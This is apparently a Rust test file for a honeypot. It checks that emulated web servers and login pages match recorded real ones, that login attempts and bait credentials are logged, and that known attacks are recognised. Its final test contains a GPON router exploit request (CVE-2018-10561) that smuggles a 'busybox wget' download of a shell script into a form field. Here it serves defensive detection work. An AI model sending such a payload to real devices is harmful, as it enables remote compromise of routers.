//! The web sites over real sockets: answers compared with recorded ones of
//! real servers, the shipped sites, their logins and their bait.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::print_stdout,
    reason = "test code outside of test functions"
)]

use crate::support;

use std::path::Path;

use palisade_event::{AttributeValue, Event};
use palisade_honeypot::{Config, HttpConfig};
use regex::bytes::Regex;
use serde::Deserialize;
use support::{Zone, config, connect, kinds, read_all, request, send, text};

#[derive(Deserialize)]
struct Recorded {
    exchange: Vec<Exchange>,
}

#[derive(Deserialize)]
struct Exchange {
    name: String,
    request: String,
    answer: String,
    end: String,
}

/// Text of a recording as bytes; `\u0000` to `\u00ff` are bytes.
fn bytes(text: &str) -> Vec<u8> {
    text.chars().map(|c| u8::try_from(u32::from(c)).expect("a byte")).collect()
}

/// What differs from one moment, file and compressor to the next, by its name.
fn plain(answer: &[u8], port: u16) -> String {
    let mut answer = answer.to_vec();
    for (pattern, name) in [
        (r"Date: [^\r]*", "Date: DATE"),
        (r"Last-Modified: [^\r]*", "Last-Modified: MODIFIED"),
        (r#"ETag: (W/)?"[0-9a-f]+-[0-9a-f]+(-gzip)?""#, "ETag: ${1}\"TAG${2}\""),
        (r"boundary=[0-9a-f]{16,20}", "boundary=BOUNDARY"),
        (r"--[0-9a-f]{16,20}", "--BOUNDARY"),
        (&format!("h:{port}/"), "h:PORT/"),
    ] {
        answer = Regex::new(pattern).unwrap().replace_all(&answer, name.as_bytes()).into_owned();
    }
    let text = String::from_utf8_lossy(&answer).into_owned();
    match text.split_once("\r\n\r\n") {
        Some((head, _)) if head.contains("Content-Encoding: gzip") => {
            let length = Regex::new(r"Content-Length: \d+").unwrap();
            let head = length.replace_all(head.as_bytes(), &b"Content-Length: N"[..]).into_owned();
            format!("{}\r\n\r\n", String::from_utf8(head).unwrap())
        }
        _ => text,
    }
}

fn site(name: &str) -> Config {
    let mut config = config();
    let http =
        HttpConfig { site: Some(name.to_owned()), fail_delay_ms: 0, ..HttpConfig::default() };
    config.services[1].http = Some(http);
    config.persona.hostname = None;
    config.persona.server = Some("debian12".to_owned());
    config.persona.seed = Some(4711);
    config
}

async fn ask(zone: &mut Zone, request: &[u8]) -> (Vec<Event>, Vec<u8>) {
    let mut client = connect(zone.http).await;
    send(&mut client, request).await;
    let answer = read_all(&mut client).await;
    drop(client);
    (zone.session().await, answer)
}

async fn get(zone: &mut Zone, path: &str) -> String {
    let request = format!("GET {path} HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n");
    String::from_utf8(ask(zone, request.as_bytes()).await.1).unwrap()
}

/// A folder as the recorded servers had it.
fn recorded_folder(daemon: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let write = |path: &str, text: &str| {
        let path = folder.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    write("site.toml", &format!("daemon = \"{daemon}\"\n"));
    let page = "<!DOCTYPE html>\n<html><head><title>Recorded</title></head>\n<body><p>A page that is long enough to be worth compressing, and short enough to be read.</p></body></html>\n";
    write("root/index.html", page);
    write("root/adm/x.txt", "x\n");
    write("root/.git/config", "[core]\n");
    write("root/.htaccess", "x\n");
    folder
}

/// Answers as the real server gave them, but for the named cases.
async fn answers_as_recorded(daemon: &str, recorded: &str, but: &[&str]) {
    let folder = recorded_folder(daemon);
    let mut zone = Zone::start(&site(folder.path().to_str().unwrap())).await;
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/web").join(recorded);
    let recorded: Recorded = toml::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let port = zone.http.port();
    let last = b"GET /the-end HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n";
    let (_, end) = ask(&mut zone, last).await;
    let end = plain(&end, port);
    let page = get(&mut zone, "/").await;
    let field = |name: &str| {
        let line = page.lines().find_map(|line| line.strip_prefix(name));
        line.expect("a field").trim().to_owned()
    };
    let (tag, modified) = (field("ETag:"), field("Last-Modified:"));
    let (mut compared, mut different) = (0, Vec::new());
    for exchange in &recorded.exchange {
        // A refused body is read for a while after the last answer.
        let open = exchange.end == "open" && !exchange.answer.contains("Connection: close");
        if but.contains(&exchange.name.as_str()) || open && exchange.answer.is_empty() {
            continue;
        }
        let request = exchange.request.replace("FILL", &"a".repeat(9_000));
        let request = bytes(&request.replace("TAG", &tag).replace("MODIFIED", &modified));
        let mut client = connect(zone.http).await;
        send(&mut client, &request).await;
        if open {
            send(&mut client, last).await;
        }
        let answer = plain(&read_all(&mut client).await, port);
        drop(client);
        zone.session().await;
        let wanted = String::from_utf8(bytes(&exchange.answer)).unwrap();
        let whole = if open { format!("{wanted}{end}") } else { wanted.clone() };
        // A compressed answer is left out of both.
        let same = answer == whole || answer == wanted && wanted.contains("Content-Encoding: gzip");
        if !same {
            different.push(format!("{}:\n{answer:?}\nand not\n{whole:?}", exchange.name));
        }
        compared += 1;
    }
    assert!(different.is_empty(), "{} of {compared}:\n{}", different.len(), different.join("\n\n"));
    assert!(compared > 60, "{compared}");
}

#[tokio::test]
async fn answers_are_nginx_s() {
    // `expect` is answered by nginx before the body, which is wanted here; 1.2 is
    // a version that nobody speaks.
    answers_as_recorded("nginx", "nginx-1.22.1.toml", &["expect", "h12"]).await;
}

#[tokio::test]
async fn answers_are_apache_s() {
    // Listings of folders are not made; versions that nobody speaks are refused;
    // the body is waited for after `100 Continue`.
    let but = ["dir/", "gitdir", "h2", "h12", "badchunk", "expect"];
    answers_as_recorded("apache", "apache-2.4.71.toml", &but).await;
}

#[tokio::test]
async fn every_shipped_site_says_who_it_is() {
    let left =
        Regex::new("@(pick|hex|secret|fresh|hostname|domain|user|username|host)[:@]").unwrap();
    for (name, path, status, server, shown) in [
        ("router", "/", "200 OK", "lighttpd/1.4.", "<input name=\"username\""),
        ("nginx", "/", "200 OK", "nginx/1.22.1", "Welcome to nginx!"),
        ("nginx", "/x", "404 Not Found", "nginx/1.22.1", "<center>nginx/1.22.1</center>"),
        ("apache", "/", "200 OK", "Apache/2.4.71 (Debian)", "Apache2 Debian Default Page"),
        ("apache", "/server-status", "403 Forbidden", "Apache/2.4.71 (Debian)", "Forbidden"),
        ("phpmyadmin", "/phpmyadmin/", "200 OK", "Apache/2.4.71 (Debian)", "name=\"pma_username\""),
        (
            "phpmyadmin",
            "/phpmyadmin",
            "301 Moved Permanently",
            "Apache/2.4.71 (Debian)",
            "http://h/phpmyadmin/",
        ),
        ("wordpress", "/", "200 OK", "Apache/2.4.71 (Debian)", "content=\"WordPress "),
        ("wordpress", "/wp-login.php", "200 OK", "Apache/2.4.71 (Debian)", "name=\"log\""),
        (
            "wordpress",
            "/wp-admin/",
            "302 Found",
            "Apache/2.4.71 (Debian)",
            "Location: http://h/wp-login.php",
        ),
        ("wordpress", "/nothing", "404 Not Found", "Apache/2.4.71 (Debian)", "error404"),
        (
            "wordpress",
            "/xmlrpc.php",
            "405 Method Not Allowed",
            "Apache/2.4.71 (Debian)",
            "POST requests only",
        ),
        ("wordpress", "/wp-json/wp/v2/users", "200 OK", "Apache/2.4.71 (Debian)", "\"slug\":\""),
        ("wordpress", "/readme.html", "200 OK", "Apache/2.4.71 (Debian)", "ReadMe"),
    ] {
        let mut zone = Zone::start(&site(name)).await;
        let answer = get(&mut zone, path).await;
        assert!(answer.starts_with(&format!("HTTP/1.1 {status}\r\n")), "{name}{path}: {answer}");
        assert!(answer.contains(&format!("\r\nServer: {server}")), "{name}{path}: {answer}");
        assert!(answer.contains(shown), "{name}{path}: {answer}");
        // Nothing of a template is left.
        assert!(!left.is_match(answer.as_bytes()), "{name}{path}: {answer}");
    }
}

/// Name and password of a login.
fn login(event: &Event) -> (String, String) {
    let tried = event.credentials.as_ref().expect("credentials");
    let text =
        |text: &Option<palisade_event::Untrusted>| text.as_ref().unwrap().to_lossy().into_owned();
    (text(&tried.username), text(&tried.password))
}

#[tokio::test]
async fn logins_of_every_site_are_recorded() {
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let call = "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>admin</string></value></param><param><value><string>p1</string></value></param></params></methodCall>";
    for (name, path, fields, body, method, shown) in [
        (
            "phpmyadmin",
            "/phpmyadmin/index.php?route=/",
            form,
            "pma_username=ro%3Cot&pma_password=p1&server=1",
            "http-form",
            "Access denied for user 'ro&lt;ot'@'localhost'",
        ),
        (
            "wordpress",
            "/wp-login.php",
            form,
            "log=admin&pwd=p1&wp-submit=Log+In",
            "http-form",
            "for the username <strong>admin</strong> is incorrect",
        ),
        (
            "wordpress",
            "/xmlrpc.php",
            "Content-Type: text/xml\r\n",
            call,
            "xml-rpc",
            "Incorrect username or password.",
        ),
        (
            "nginx",
            "/api/login",
            "Content-Type: application/json\r\n",
            "{\"user\":\"admin\",\"password\":\"p1\"}",
            "http-json",
            "404 Not Found",
        ),
        (
            "router",
            "/cgi-bin/x",
            "Authorization: Basic YWRtaW46cDE=\r\n",
            "",
            "http-basic",
            "404 - Not Found",
        ),
        (
            "router",
            "/",
            "Authorization: Basic YWRtaW46cDE=\r\n",
            "",
            "http-basic",
            "WWW-Authenticate: Basic realm=",
        ),
    ] {
        let mut zone = Zone::start(&site(name)).await;
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: h\r\n{fields}Connection: close\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        let (events, answer) = ask(&mut zone, head.as_bytes()).await;
        let answer = String::from_utf8(answer).unwrap();
        assert!(answer.contains(shown), "{name}: {answer}");
        let wanted = ["connection.opened", "http.requested", "auth.attempted", "session.closed"];
        assert_eq!(kinds(&events), wanted, "{name}");
        assert_eq!(text(&events[2], "method"), method.as_bytes());
        assert_eq!(login(&events[2]).1, "p1");
    }
}

#[tokio::test]
async fn bait_is_this_installation_s_and_known_again() {
    let value = |answer: &str, name: &str| {
        let line = answer.lines().find_map(|line| line.strip_prefix(name).map(str::to_owned));
        line.unwrap_or_else(|| panic!("{name} in {answer}"))
    };
    let mut zone = Zone::start(&site("nginx")).await;
    let environment = get(&mut zone, "/.env").await;
    let password = value(&environment, "DB_PASSWORD=");
    assert!(value(&environment, "AWS_ACCESS_KEY_ID=").starts_with("AKIA"), "{environment}");
    let git = get(&mut zone, "/.git/config").await;
    assert!(git.contains("url = https://deploy:"), "{git}");
    assert!(get(&mut zone, "/.git/HEAD").await.contains("ref: refs/heads/"));
    assert!(get(&mut zone, "/.git/").await.contains("403 Forbidden"));
    let mut other = site("nginx");
    other.persona.seed = Some(4712);
    let other = get(&mut Zone::start(&other).await, "/.env").await;
    assert_ne!(value(&other, "DB_PASSWORD="), password);

    // Somebody tries it, at another door.
    let mut client = connect(zone.telnet).await;
    send(&mut client, format!("portal\r\n{password}\r\n").as_bytes()).await;
    support::read_until(&mut client, b"incorrect").await;
    drop(client);
    let events = zone.session().await;
    assert_eq!(text(&events[1], "bait"), b"env_database");
    let mut client = connect(zone.telnet).await;
    send(&mut client, b"portal\r\nanother-password\r\n").await;
    support::read_until(&mut client, b"incorrect").await;
    drop(client);
    assert!(!zone.session().await[1].attributes.contains_key("bait"));
}

#[tokio::test]
async fn the_order_of_fields_is_told() {
    let mut zone = Zone::start(&site("nginx")).await;
    let mut seen = Vec::new();
    for head in [
        "Host: h\r\nAccept: */*\r\nConnection: close",
        "Host: i\r\nAccept: x\r\nConnection: close",
        "Accept: */*\r\nHost: h\r\nConnection: close",
        "host: h\r\nAccept: */*\r\nConnection: close",
    ] {
        let (events, _) =
            ask(&mut zone, format!("GET / HTTP/1.1\r\n{head}\r\n\r\n").as_bytes()).await;
        seen.push(text(&events[1], "header_order").to_vec());
    }
    assert_eq!(seen[0], seen[1]);
    assert!(seen[0] != seen[2] && seen[0] != seen[3] && seen[0].len() == 12);
}

#[tokio::test]
async fn a_body_beyond_what_is_kept_is_waited_out_as_nginx_does() {
    let mut zone = Zone::start(&site("nginx")).await;
    let mut bytes = b"POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 200000\r\n\r\n".to_vec();
    bytes.resize(bytes.len() + 200_000, b'x');
    bytes.extend_from_slice(b"GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n");
    let (events, answer) = ask(&mut zone, &bytes).await;
    assert!(answer.starts_with(b"HTTP/1.1 404 ") && answer.ends_with(b"</html>\n"));
    assert_eq!(text(&events[1], "body").len(), 64 * 1024);
    assert_eq!(events[1].attributes.get("truncated"), Some(&AttributeValue::Flag(true)));
    assert_eq!(request(&events[2]), b"GET /");
    let long = b"POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 2000000\r\n\r\nabc";
    let (events, answer) = ask(&mut zone, long).await;
    assert!(answer.starts_with(b"HTTP/1.1 413 "), "{}", answer.escape_ascii());
    assert_eq!(text(&events[1], "body"), b"abc");
}

#[tokio::test]
async fn a_folder_with_a_mistake_is_one_clear_sentence() {
    for (text, wanted) in [
        ("daemon = \"iis\"", "daemon 'iis' is none of nginx, apache, lighttpd"),
        ("daemon = \"nginx\"\ninclude = [\"x\"]", "there is no part 'x'"),
        ("daemon = \"nginx\"\n[[pages]]\npath = \"x\"", "'x' is no path that begins with /"),
        ("daemon = \"nginx\"\n[[pages]]\npath = \"/\"\nfile = \"no\"", "/: there is no file 'no'"),
        ("daemon = \"nginx\"\nx = 1", "unknown field"),
    ] {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("site.toml"), text).unwrap();
        let config = site(folder.path().to_str().unwrap());
        let (out, _events) = tokio::sync::mpsc::channel(1);
        let sensor = palisade_event::SensorId::new("a").unwrap();
        let error =
            palisade_honeypot::Honeypot::bind(&config, sensor, None, out).await.unwrap_err();
        assert!(error.to_string().contains(wanted), "{error}");
    }
    let (out, _events) = tokio::sync::mpsc::channel(1);
    let sensor = palisade_event::SensorId::new("a").unwrap();
    let error =
        palisade_honeypot::Honeypot::bind(&site("iis"), sensor, None, out).await.unwrap_err();
    assert!(error.to_string().contains("there are router, nginx"), "{error}");
}

#[tokio::test]
async fn known_attacks_are_named_and_their_droppers_recorded() {
    let mut zone = Zone::start(&site("nginx")).await;
    let request_bytes = b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: h\r\nConnection: close\r\nContent-Length: 79\r\n\r\nXWebPageName=diag&dest_host=`busybox+wget+http%3A%2F%2F198.51.100.9%2FGpon.sh`;";
    let (events, answer) = ask(&mut zone, request_bytes).await;
    assert!(answer.starts_with(b"HTTP/1.1 404 "), "{}", answer.escape_ascii());
    let wanted = ["connection.opened", "http.requested", "download.attempted", "session.closed"];
    assert_eq!(kinds(&events), wanted);
    assert_eq!(events[1].cve.as_deref(), Some("CVE-2018-10561"));
    assert!(text(&events[1], "signature").starts_with(b"gpon"));
    assert_eq!(text(&events[1], "technique"), b"T1190");
    assert_eq!(request(&events[2]), b"http://198.51.100.9/Gpon.sh");
    assert_eq!(text(&events[2], "tool"), b"wget");
    assert_eq!(events[2].validate(), Ok(()));
}
